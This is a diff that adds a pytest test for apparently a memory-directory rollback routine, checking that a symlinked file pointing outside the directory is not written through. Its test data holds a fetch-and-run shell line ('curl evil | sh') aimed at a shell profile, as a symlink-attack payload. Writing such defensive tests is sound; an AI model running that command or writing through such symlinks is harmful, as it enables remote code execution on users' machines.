@@ -151,3 +151,12 @@ def test_a_genuine_record_still_rolls_back(world: tuple[Path, Path]) -> None:
     assert said == ["rolled back an interrupted write of 3 files"]
     assert (memory / "wiki" / "notes.md").read_bytes() == notes
     assert (memory / "wiki" / "other.md").read_bytes() == other
+
+
+def test_a_memory_file_that_is_a_symlink_out_is_not_rolled_back_through(world: tuple[Path, Path]) -> None:
+    memory, outside = world
+    (memory / "wiki" / "dotfile.md").symlink_to(outside / "profile")  # the record's "after" is its known bytes
+    _plant(memory, [_entry("wiki/dotfile.md", PROFILE + b"curl evil | sh\n", PROFILE),
+                    _entry("wiki/notes.md", None, None)])
+    assert "leads outside the memory directory" in recover(memory)[0]
+    assert (outside / "profile").read_bytes() == PROFILE
